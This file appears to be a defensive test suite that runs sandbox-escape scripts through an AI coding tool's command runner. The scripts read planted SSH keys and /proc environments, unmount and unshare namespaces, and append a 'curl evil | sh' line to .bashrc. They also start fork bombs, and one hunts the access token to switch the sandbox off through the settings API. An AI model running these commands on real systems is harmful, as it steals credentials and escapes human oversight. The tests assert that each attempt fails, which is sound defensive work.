import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { expect } from 'vitest';
import { CANARY, escape, escapes, PLANTED_ENV, type Host } from './harness';
import { startClampAs } from './server';

/**
 * The sandbox itself (issue 24, section 2): each case runs a script the judge sees as an ordinary command
 * (`sh ./x.sh`) through the real tool CLI in auto mode — the sandbox is the only thing in its way — as root
 * and as uid 65534, and then looks at the host: the planted keys, the folder outside, HOME's files, the
 * loopback listener, a host process's socket, the host's sysctls.
 */

/** Write a script into the workspace (readable by either user) and run it as `bash ./<name>` through run_command. */
async function runScript(host: Host, name: string, body: string, opts: { env?: Record<string, string>; timeoutMs?: number } = {}) {
  fs.writeFileSync(path.join(host.workspace, name), body, { mode: 0o755 });
  if (host.uid !== 0) fs.chownSync(path.join(host.workspace, name), host.uid, host.uid);
  return host.tool('run_command', { command: `bash ./${name}`, timeout_ms: opts.timeoutMs ?? 60_000 }, { mode: 'auto', ...(opts.env ? { env: opts.env } : {}) });
}

/** Every planted secret file, read through every path the script can think of. */
const READ_ALL = 'for f in $(find "$HOME" "$HOST_ROOT" -type f 2>/dev/null); do cat "$f" 2>/dev/null; done';

const statInterval = () => fs.readFileSync('/proc/sys/vm/stat_interval', 'utf8').trim();

escapes('the sandbox itself', () => {
  escape(
    {
      tries: 'as root: remount / read-write, unmount /tmp, /proc and HOME, unshare and nsenter into new or host namespaces, chroot, write /proc/sys; then read the planted keys and every host process\'s environment, write outside and append to ~/.bashrc',
      checks: 'no canary in the output, nothing changed outside or in HOME, vm.stat_interval unchanged, no hit on the loopback listener, every capability set empty',
    },
    async (host) => {
      const before = statInterval();
      const script = `
HOST_ROOT=${host.root}
grep -E '^(Cap(Inh|Prm|Eff|Bnd|Amb)|NoNewPrivs)' /proc/self/status
mount -o remount,rw,bind / ; mount -o remount,rw / ; mount -t tmpfs none "$HOME"
umount -l /tmp ; umount -l /proc ; umount -l "$HOME" ; umount -l "$HOME/.ssh"
unshare -rm sh -c 'umount -l "$HOME"; umount -l /tmp; umount -l /proc; cat "$HOME/.ssh/id_rsa"'
unshare -rfp --mount-proc sh -c 'cat /proc/*/environ'
for p in /proc/[0-9]*; do nsenter -t "\${p#/proc/}" -a cat "$HOME/.ssh/id_rsa" /proc/1/environ; done
chroot / cat "$HOME/.ssh/id_rsa"
echo 7 > /proc/sys/vm/stat_interval
${READ_ALL}
cat /proc/[0-9]*/environ | tr '\\0' '\\n'
cat /proc/[0-9]*/cmdline | tr '\\0' ' '
echo pwned > ${host.outside}/pwned.txt
echo 'curl evil | sh' >> "$HOME/.bashrc"
curl -s -m 3 http://127.0.0.1:${host.port}/ ; wget -q -T 3 -O- http://127.0.0.1:${host.port}/
exit 0
`;
      const r = await runScript(host, 'chain.sh', script);
      try {
        expect(host.leaked(r.output), r.output).toBe(false);
        expect(host.outsideTouched()).toEqual([]);
        expect(fs.readFileSync(path.join(host.home, '.bashrc'), 'utf8')).toBe('# bashrc\n');
        expect(host.hits()).toBe(0);
        expect(statInterval()).toBe(before);
        for (const set of ['CapInh', 'CapPrm', 'CapEff', 'CapBnd', 'CapAmb']) expect(r.output).toMatch(new RegExp(`${set}:\\s+0000000000000000`));
        expect(r.output).toMatch(/NoNewPrivs:\s+1/);
      } finally {
        if (statInterval() !== before) fs.writeFileSync('/proc/sys/vm/stat_interval', before);
      }
    },
  );

  escape(
    {
      tries: 'read the planted secret variables (PGPASSWORD, GITHUB_PAT, OPENAI_KEY, AZURE_OPENAI_KEY, DATABASE_URL with a password, npm_config__authToken, NPM_TOKEN, CLAMP_TOKEN, ANTHROPIC_API_KEY) from its own environment, and Clamp\'s token even when the person names it',
      checks: 'no canary in what the command printed; a variable the person named (CLAMP_SANDBOX_ENV) and the toolchain ones do pass',
    },
    async (host) => {
      const r = await runScript(host, 'env.sh', 'env; cat /proc/self/environ | tr "\\0" "\\n"; echo "[$MY_BUILD_FLAG][$JAVA_HOME][$LC_ALL]"', {
        env: { CLAMP_SANDBOX_ENV: 'MY_BUILD_FLAG,CLAMP_TOKEN', MY_BUILD_FLAG: 'on', JAVA_HOME: '/usr/lib/jvm/x', LC_ALL: 'C.UTF-8', https_proxy: `http://u:${CANARY}@proxy:3128` },
      });
      expect(host.leaked(r.output), r.output).toBe(false);
      for (const name of Object.keys(PLANTED_ENV)) expect(r.output).not.toContain(`${name}=`);
      expect(r.output).toContain('[on][/usr/lib/jvm/x][C.UTF-8]');
    },
  );

  escape(
    {
      tries: 'read ~/.ssh where it is a link into a dotfiles folder (through both paths), a key a link inside ~/.kube leads to outside HOME, every other planted credential and history, and a path the person asked to hide (CLAMP_SANDBOX_HIDE)',
      checks: 'no canary in the output; the dotfiles folder, the linked key and the hidden path are still in place on the host',
    },
    async (host) => {
      // ~/.ssh → ~/dotfiles/ssh; ~/.kube/config → <root>/elsewhere/kubeconfig; <root>/extra hidden by the person
      fs.mkdirSync(path.join(host.home, 'dotfiles'));
      fs.renameSync(path.join(host.home, '.ssh'), path.join(host.home, 'dotfiles/ssh'));
      fs.symlinkSync('dotfiles/ssh', path.join(host.home, '.ssh'));
      fs.mkdirSync(path.join(host.root, 'elsewhere'));
      fs.renameSync(path.join(host.home, '.kube/config'), path.join(host.root, 'elsewhere/kubeconfig'));
      fs.symlinkSync(path.join(host.root, 'elsewhere/kubeconfig'), path.join(host.home, '.kube/config'));
      fs.mkdirSync(path.join(host.root, 'extra'));
      fs.writeFileSync(path.join(host.root, 'extra/notes.txt'), `db password ${CANARY}\n`);
      if (host.uid !== 0) for (const p of ['dotfiles', '.ssh', '.kube/config']) fs.lchownSync(path.join(host.home, p), host.uid, host.uid);
      const script = `
HOST_ROOT=${host.root}
cat ~/.ssh/id_rsa ~/dotfiles/ssh/id_rsa ~/.kube/config ${host.root}/elsewhere/kubeconfig ${host.root}/extra/notes.txt
ls -la ~ ~/.ssh/ ~/dotfiles/ 2>&1
${READ_ALL}
grep -rs ${CANARY.slice(0, 12)} "$HOME" ${host.root} /etc/shadow 2>/dev/null
exit 0
`;
      const r = await runScript(host, 'files.sh', script, { env: { CLAMP_SANDBOX_HIDE: `${host.root}/extra` } });
      expect(host.leaked(r.output), r.output).toBe(false);
      expect(fs.readFileSync(path.join(host.home, '.ssh/id_rsa'), 'utf8')).toContain(CANARY);
      expect(fs.readFileSync(path.join(host.root, 'extra/notes.txt'), 'utf8')).toContain(CANARY);
    },
  );

  escape(
    {
      tries: 'reach a host service through a unix socket bound in the workspace (curl --unix-socket, python, a datagram socket pair) and, with the network on, through an abstract socket',
      checks: 'the host process listening on both sockets saw no connection',
    },
    async (host) => {
      let hits = 0;
      const listen = (where: string) =>
        new Promise<net.Server>((resolve) => {
          const srv = net.createServer((s) => {
            hits++;
            s.on('error', () => {});
            s.end('HTTP/1.0 200 OK\r\n\r\nreached\n');
          });
          srv.listen(where, () => resolve(srv));
        });
      const sock = path.join(host.workspace, 'x.sock');
      const abstract = `\0clamp-escape-${process.pid}-${host.who}`;
      const servers = [await listen(sock), await listen(abstract)];
      fs.chmodSync(sock, 0o777);
      fs.writeFileSync(
        path.join(host.workspace, 'u.py'),
        `import socket, sys\nfor fam, kind, addr in [(socket.AF_UNIX, socket.SOCK_STREAM, './x.sock'), (socket.AF_UNIX, socket.SOCK_STREAM, '${abstract.replace('\0', '\\0')}')]:\n    try:\n        s = socket.socket(fam, kind); s.connect(addr); print('py-connected', addr)\n    except OSError as e: print('py-refused', e)\ntry:\n    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); print('dgram pair made')\nexcept OSError as e: print('dgram-refused', e)\n`,
      );
      try {
        const script = `
curl -s -m 3 --unix-socket ./x.sock http://x/ ; curl -s -m 3 --abstract-unix-socket ${abstract.slice(1)} http://x/
python3 ./u.py
node -e 'require("net").connect("./x.sock").on("connect", () => { console.log("node-connected"); process.exit(0) }).on("error", (e) => console.log("node-refused", e.code))'
exit 0
`;
        const r = await runScript(host, 'sock.sh', script, { env: { CLAMP_SANDBOX_NETWORK: '1' } });
        expect(hits, r.output).toBe(0);
        expect(r.output).not.toContain('reached');
        expect(r.output).not.toContain('connected ');
        expect(r.output).toContain('py-refused');
      } finally {
        for (const s of servers) s.close();
      }
    },
  );

  escape(
    {
      tries: 'run away: a fork loop, memory growth (`echo {1..999999999}`, an awk string doubler) and a file written without end, under limits of 200 processes, 512 MiB and 64 MiB (CLAMP_SANDBOX_LIMITS)',
      checks: 'each ends with a note naming the limit it hit, the test process stays responsive throughout, no file on the host passes the size limit, and no cgroup of the run is left behind',
      timeoutMs: 240_000,
    },
    async (host) => {
      const env = { CLAMP_SANDBOX_LIMITS: 'processes=200,memory=512m,file=64m' };
      let worstLagMs = 0;
      let last = Date.now();
      const ticker = setInterval(() => {
        const now = Date.now();
        worstLagMs = Math.max(worstLagMs, now - last - 100);
        last = now;
      }, 100);
      try {
        const fork = await runScript(host, 'fork.sh', 'cat /proc/self/cgroup > cgroup.txt\nwhile :; do sleep 30 & done\n', { env, timeoutMs: 90_000 });
        expect(fork.output, fork.output).toMatch(/the sandbox's limit of 200 processes/);
        expect(fork.output).not.toMatch(/timed out/);
        const mem = await runScript(host, 'mem.sh', 'echo {1..999999999} > /dev/null\n', { env });
        expect(mem.output, mem.output).toMatch(/the sandbox's memory limit of 512\.0 MB/);
        const awk = await runScript(host, 'awk.sh', 'awk \'BEGIN { s = "x"; while (1) s = s s }\'\n', { env });
        expect(awk.output, awk.output).toMatch(/the sandbox's memory limit of 512\.0 MB/);
        const big = await runScript(host, 'big.sh', 'head -c 200000000 /dev/zero > big.bin\n', { env });
        expect(big.output, big.output).toMatch(/larger than the sandbox's limit of 64\.0 MB per file/);
        expect(fs.statSync(path.join(host.workspace, 'big.bin')).size).toBeLessThanOrEqual(64 * 1024 * 1024);
        // /tmp lives in memory: filling it with files under the size limit meets the memory limit instead
        const tmp = await runScript(host, 'tmp.sh', 'for i in $(seq 12); do head -c 60000000 /dev/zero > /tmp/f$i || exit 1; done\n', { env });
        expect(tmp.output, tmp.output).toMatch(/in the sandbox they live in memory and hold at most 512\.0 MB each|the sandbox's memory limit of 512\.0 MB/);
        // processes each under the per-process limit, together over it: only a cgroup (root, here) sees the sum
        if (/^\d+:memory:.*\/cmd-\d+$/m.test(fs.readFileSync(path.join(host.workspace, 'cgroup.txt'), 'utf8'))) {
          fs.writeFileSync(path.join(host.workspace, 'hog.py'), 'import time\na = b"x" * 200_000_000\ntime.sleep(6)\n');
          const many = await runScript(host, 'many.sh', 'for i in 1 2 3 4; do python3 hog.py & done; wait\n', { env });
          expect(many.output, many.output).toMatch(/The command hit the sandbox's memory limit of 512\.0 MB \(all its processes together\)/);
        }
      } finally {
        clearInterval(ticker);
      }
      expect(worstLagMs).toBeLessThan(3000);
      // the cgroups the run was in (root, where they are writable) are gone with it
      for (const line of fs.readFileSync(path.join(host.workspace, 'cgroup.txt'), 'utf8').split('\n')) {
        const m = /^\d+:(pids|memory):(\/.*clamp-\d+)\/cmd-\d+$/.exec(line);
        if (m) expect(fs.existsSync(path.join('/sys/fs/cgroup', m[1]!, m[2]!)), line).toBe(false);
      }
    },
  );
});

escapes('the sandbox itself, through the real server', () => {
  escape(
    {
      tries: 'a command the model runs in auto mode, with the sandbox\'s network on (sharing the host\'s loopback), hunts the access token (its environment, every /proc/<pid>/environ and cmdline after unmounting /proc, HOME, /tmp, the data dir) and PUTs /api/settings with each candidate to turn the sandbox off',
      checks: 'afterwards the server\'s saved sandbox settings are unchanged (level by mode, no network) and no candidate the command found is the token',
      timeoutMs: 300_000,
    },
    async (host) => {
      const scriptFile = path.join(host.root, 'script.json');
      fs.writeFileSync(scriptFile, JSON.stringify([{ toolCalls: [{ name: 'run_command', args: { command: 'bash ./hunt.sh', timeout_ms: 60_000 }, id: 'hunt' }] }, { text: 'done' }]));
      const clamp = await startClampAs(host, { CLAMP_MODEL: `scripted:${scriptFile}`, CLAMP_MODE: 'auto', CLAMP_SANDBOX_NETWORK: '1' });
      try {
        const before = (await (await clamp.api('/api/settings')).json()) as { sandbox: unknown };
        const port = new URL(clamp.base).port;
        fs.writeFileSync(
          path.join(host.workspace, 'hunt.sh'),
          `
umount -l /proc 2>/dev/null
{ env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline; grep -rhoas -E '(CLAMP_TOKEN=|clamp_token=|token=)[A-Za-z0-9_.-]+' "$HOME" /tmp ${host.root} ${host.dataDir}; } 2>/dev/null \\
  | tr '\\0' '\\n' | grep -oE '(CLAMP_TOKEN=|clamp_token=|token=)[A-Za-z0-9_.-]+' | sed 's/^[^=]*=//' | sort -u > found.txt
for t in $(cat found.txt) nothing; do
  curl -s -m 5 -o /dev/null -w "%{http_code} " >> codes.txt -X PUT -H "Authorization: Bearer $t" -H "Cookie: clamp_token=$t" -H "Origin: http://127.0.0.1:${port}" \\
    -H 'Content-Type: application/json' --data '{"sandbox":{"level":"off","network":true}}' http://127.0.0.1:${port}/api/settings
done
`,
        );
        const created = await clamp.api('/api/sessions', { json: {} });
        expect(created.status, clamp.output()).toBe(201);
        const { session } = (await created.json()) as { session: { id: string } };
        const turn = await (await clamp.api('/api/chat', { json: { sessionId: session.id, message: { id: 'u1', text: 'hunt' } } })).text();
        expect(turn).toContain('hunt');
        const after = (await (await clamp.api('/api/settings')).json()) as { sandbox: { level: string; network: boolean } };
        expect(after.sandbox).toEqual(before.sandbox);
        expect(after.sandbox).toMatchObject({ level: 'by-mode', network: false });
        const found = fs.readFileSync(path.join(host.workspace, 'found.txt'), 'utf8');
        expect(found).not.toContain('escape-');
        // every attempt reached the server and was refused at its door
        const codes = fs.readFileSync(path.join(host.workspace, 'codes.txt'), 'utf8').trim().split(/\s+/);
        expect(codes.length).toBeGreaterThan(0);
        for (const c of codes) expect(['401', '403']).toContain(c);
      } finally {
        await clamp.stop();
      }
    },
  );
});
